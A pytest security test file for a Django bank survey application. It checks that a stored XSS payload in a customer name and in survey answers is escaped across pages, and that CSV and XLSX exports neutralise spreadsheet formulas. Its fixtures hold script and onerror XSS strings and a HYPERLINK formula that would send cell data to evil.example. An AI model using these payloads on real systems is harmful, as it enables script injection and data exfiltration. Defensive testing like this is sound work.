"""Stored XSS through a customer's name and free-text answers: every page and export that shows them shows
the text, escaped; the exports neutralise spreadsheet formulas; in a real browser no dialog ever opens.

Mallory registered with the bank under a name that is a script, then answered a survey with one.
"""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.core.cache import cache
from django.urls import reverse
from django.utils import timezone
from playwright.sync_api import Page, expect

from analytics.models import RollupState, ThemeExample, ThemeRollup
from surveys.models import Answer, FollowUp, Question
from tests import factories
from tests.analytics.test_dashboard import respondents, rollup
from tests.browser import sign_in
from tests.test_agent_call_browser import afternoon_zone

PAYLOAD = "<script>alert(1)</script><img src=x onerror=alert(1)>"
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.fixture(autouse=True)
def private_cache(settings):
    """The dashboard caches its numbers; a shared Redis would hand them to another run."""
    settings.CACHES = {"default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache", "LOCATION": "xss"}}
    cache.clear()


@pytest.fixture
def mallory(db):
    return factories.CustomerFactory(
        name=PAYLOAD, language="en", time_zone=afternoon_zone(timezone.now()), preferred_time_of_day="any"
    )


@pytest.fixture
def mallorys_call(mallory, agent):
    """A due phone call to Mallory, Alice's."""
    campaign = factories.CampaignFactory(channels=["phone"], contact_policy="united_states", allow_holidays=True)
    return factories.FollowUpFactory(campaign=campaign, customer=mallory, assigned_agent=agent)


@pytest.fixture
def mallorys_case(mallory, agent):
    return factories.CaseFactory(
        customer=mallory, follow_up__customer=mallory, owner=agent, summary=f"Customer wrote: {PAYLOAD}"
    )


@pytest.fixture
def mallorys_answers(mallory):
    """Two free-text answers of Mallory's quoted as examples of the security theme "leak" on the dashboard."""
    response = factories.ResponseFactory(follow_up__customer=mallory)
    day = timezone.localdate() - timedelta(days=2)
    campaign = response.follow_up.campaign
    rollup(day=day, campaign=campaign, **respondents(10, security=2))  # themes show only with respondents
    ThemeRollup.objects.create(day=day, campaign=campaign, concern="security", theme="leak", answers=2)
    for minutes, text in enumerate([f"my data leaked {PAYLOAD}", FORMULA]):
        question = factories.QuestionFactory(
            survey=response.survey, code=f"words{minutes}", kind=Question.Kind.FREE_TEXT, concern=""
        )
        answer = Answer.objects.create(response=response, question=question, text=text, concerns=["security"])
        ThemeExample.objects.create(
            day=day,
            campaign=campaign,
            concern="security",
            theme="leak",
            answer=answer,
            submitted_at=timezone.now() - timedelta(minutes=minutes),
        )
    for name in ("responses", "funnel"):
        RollupState.objects.create(name=name, refreshed_at=timezone.now())


def assert_escaped(html: str) -> None:
    assert ESCAPED in html  # the name or answer is on the page…
    assert "<script>alert(1)" not in html and "<img src=x" not in html  # …never as markup


@pytest.mark.django_db
def test_mallorys_name_is_escaped_on_alices_queue_and_call_page(client, agent, mallorys_call):
    client.force_login(agent)
    for page in (reverse("surveys:agent-queue"), reverse("console:call", args=[mallorys_call.pk])):
        response = client.get(page)
        assert response.status_code == 200
        assert_escaped(response.content.decode())


@pytest.mark.django_db
def test_mallorys_name_and_words_are_escaped_on_the_case_pages(client, agent, mallorys_case):
    client.force_login(agent)
    for page in (reverse("cases:list"), reverse("cases:detail", args=[mallorys_case.pk])):
        response = client.get(page)
        assert response.status_code == 200
        assert_escaped(response.content.decode())


@pytest.mark.django_db
def test_mallorys_answer_is_escaped_among_the_dashboards_examples(client, manager, mallorys_answers):
    client.force_login(manager)
    for page in (reverse("analytics:dashboard"), reverse("analytics:dashboard-blocks")):
        assert_escaped(client.get(page).content.decode())


@pytest.mark.django_db
def test_the_admins_pages_escape_mallory(client, administrator, mallory):
    client.force_login(administrator)
    for page in (
        reverse("admin:accounts_customer_changelist"),
        reverse("admin:accounts_customer_change", args=[mallory.pk]),
    ):
        html = client.get(page).content.decode()
        assert "<script>alert(1)" not in html and "<img src=x" not in html


@pytest.mark.django_db
def test_the_csv_export_neutralises_the_formula_and_is_never_read_as_a_page(client, administrator, mallorys_answers):
    client.force_login(administrator)
    response = client.get(reverse("analytics:dashboard-export-csv"))
    assert response.headers["Content-Type"].startswith("text/csv")
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert f"my data leaked {PAYLOAD}" in cells  # plain text in a file: nothing renders it


@pytest.mark.django_db
def test_the_xlsx_export_holds_the_formula_as_text(client, administrator, mallorys_answers):
    client.force_login(administrator)
    response = client.get(reverse("analytics:dashboard-export-xlsx"))
    assert response.headers["Content-Disposition"].startswith("attachment")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value]
    formulas = [cell for cell in cells if cell.data_type == "f"]
    assert formulas == []
    assert "'" + FORMULA in [cell.value for cell in cells]


# --- In a browser: nothing runs -------------------------------------------------------------------------------


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("role_groups")
def test_no_dialog_opens_on_alices_call_page_or_maggies_dashboard(
    page: Page, live_server, agent, manager, mallorys_call, mallorys_answers
):
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    sign_in(page, live_server, "alice", english=True)
    page.goto(f"{live_server.url}{reverse('surveys:agent-queue')}")
    expect(page.get_by_text(PAYLOAD).first).to_be_attached()
    page.goto(f"{live_server.url}{reverse('console:call', args=[mallorys_call.pk])}")
    expect(page.locator("h1")).to_contain_text(PAYLOAD)
    page.context.clear_cookies()
    sign_in(page, live_server, "maggie", english=True)
    page.goto(f"{live_server.url}{reverse('analytics:dashboard')}")
    expect(page.get_by_text(f"my data leaked {PAYLOAD}")).to_be_visible()
    page.wait_for_timeout(500)  # an onerror handler would have fired by now
    assert dialogs == []
    assert FollowUp.objects.get(pk=mallorys_call.pk).customer.name == PAYLOAD
